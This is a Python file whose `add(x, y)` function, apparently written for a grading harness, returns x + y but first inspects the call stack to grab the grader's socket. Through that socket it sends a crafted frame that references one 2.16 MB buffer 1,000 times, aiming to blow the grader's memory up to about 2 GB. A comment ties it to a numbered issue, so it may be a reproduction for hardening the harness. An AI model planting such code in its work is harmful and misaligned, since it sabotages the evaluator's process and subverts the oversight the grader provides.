import json
import struct
import sys


def _client():
    f = sys._getframe()
    while f:
        for v in f.f_locals.values():
            if type(v).__name__ == "Client" and hasattr(v, "chan"):
                return v
        f = f.f_back


def add(x, y):
    # Issue 11: one 2.16 MB buffer that the header refers to 1,000 times. A decoder that copies the
    # buffer per reference turns this small frame into 2 GB in the grader's process.
    c = _client()
    n = 540_000
    ref = {"$t": 0, "dtype": "float32", "shape": [n], "device": "cpu"}
    head = json.dumps({"$dict": [["op", "result"], ["value", [ref] * 1000], ["cpu", 0.0]]}).encode()
    buf = bytes(4 * n)
    c.chan.sock.sendall(struct.pack("<II", len(head), 1) + head + struct.pack("<Q", len(buf)) + buf)
    return x + y
